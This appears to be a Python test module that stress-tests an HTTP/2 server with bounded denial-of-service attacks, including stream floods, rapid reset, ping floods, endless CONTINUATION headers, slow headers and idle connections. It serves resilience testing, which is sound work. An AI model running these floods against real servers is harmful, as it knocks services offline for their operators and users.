"""Attacks on one listener: each runs for a bounded time with a bounded number of connections and streams."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable, Mapping

from tests.attacks import frames
from tests.attacks.frame_attacks import FRAME_ATTACKS
from tests.attacks.http2 import METHOD, Target, Toll, connected_to, flood_streams
from tests.attacks.slow_attacks import SLOW_ATTACKS

Body = Callable[[Target, Toll, float], Awaitable[None]]


async def open_streams(target: Target, toll: Toll, until: float) -> None:
    """Calls whose bodies never come."""
    block = frames.header_block(METHOD)
    await flood_streams(target, toll, until, lambda stream: frames.headers(stream, block))


async def rapid_reset(target: Target, toll: Toll, until: float) -> None:
    """Calls that are cancelled at once."""
    block = frames.header_block(METHOD)
    await flood_streams(target, toll, until, lambda stream: frames.headers(stream, block) + frames.reset(stream))


async def whole_calls(target: Target, toll: Toll, until: float) -> None:
    """Calls with bodies, as fast as they can be written."""
    block = frames.header_block(METHOD)
    body = b"\0\0\0\0\0"
    await flood_streams(
        target,
        toll,
        until,
        lambda stream: frames.headers(stream, block) + frames.frame(frames.DATA, frames.END_STREAM, stream, body),
    )


async def large_messages(target: Target, toll: Toll, until: float) -> None:
    """Messages that say to be long, sent for as long as the server takes them."""
    block = frames.header_block(METHOD)
    start = b"\0" + (4 * 1024 * 1024 - 5).to_bytes(4, "big")

    def make(stream: int) -> bytes:
        return frames.headers(stream, block) + frames.data(stream, start + b"\0" * 8000)

    await flood_streams(target, toll, until, make)


async def pings(target: Target, toll: Toll, until: float) -> None:
    """Pings without end."""
    await flood_streams(target, toll, until, lambda _: frames.ping())


async def large_headers(target: Target, toll: Toll, until: float) -> None:
    """A header block that goes on and on, in CONTINUATION frames."""
    start = frames.header_block(METHOD)
    piece = b"".join(b"\x00" + b"\x07" + f"x{i:06d}".encode() + b"\x7f\x81\x1f" + b"y" * 4096 for i in range(3))
    while time.monotonic() < until:
        async with connected_to(target, toll) as connection:
            stream = connection.next_stream()
            connection.in_headers = True
            await connection.write(frames.headers(stream, start, ends_headers=False))
            while connection.is_open and time.monotonic() < until:
                await connection.write(frames.continuation(stream, piece))
                await asyncio.sleep(0)
        await asyncio.sleep(0.01)


async def slow_headers(target: Target, toll: Toll, until: float) -> None:
    """A header block that comes byte by byte."""
    start = frames.header_block(METHOD)
    async with connected_to(target, toll) as connection:
        stream = connection.next_stream()
        connection.in_headers = True
        await connection.write(frames.headers(stream, start, ends_headers=False))
        while connection.is_open and time.monotonic() < until:
            await connection.write(frames.continuation(stream, b"\x82"))
            await asyncio.sleep(0.5)


async def idle_after_handshake(target: Target, toll: Toll, until: float) -> None:
    """A connection that has shaken hands, and then says nothing."""
    async with connected_to(target, toll) as connection:
        await connection.ended(until)
    if not connection.is_open:
        toll.refused += 1


async def silent(target: Target, toll: Toll, until: float) -> None:
    """A TCP connection on which nothing is ever said; taken up again when it is cut off."""
    while time.monotonic() < until:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        toll.connected += 1
        try:
            async with asyncio.timeout(max(0.0, until - time.monotonic())):
                await reader.read()
            toll.refused += 1
        except TimeoutError:
            return
        finally:
            writer.transport.abort()
        await asyncio.sleep(0.1)


ATTACKS: Mapping[str, Body] = {
    "open-streams": open_streams,
    "rapid-reset": rapid_reset,
    "whole-calls": whole_calls,
    "large-messages": large_messages,
    "large-headers": large_headers,
    "slow-headers": slow_headers,
    "pings": pings,
    "idle-after-handshake": idle_after_handshake,
    "silent": silent,
    **FRAME_ATTACKS,
    **SLOW_ATTACKS,
}


async def attack(kind: str, target: Target) -> Toll:
    """Runs one attack on all of its connections at once."""
    toll = Toll()
    until = time.monotonic() + target.seconds

    async def one() -> None:
        while time.monotonic() < until:
            try:
                await ATTACKS[kind](target, toll, until)
            except OSError as error:
                toll.refused += 1
                if len(toll.errors) < 5:
                    toll.errors.append(repr(error))
                await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(target.connections)))
    return toll
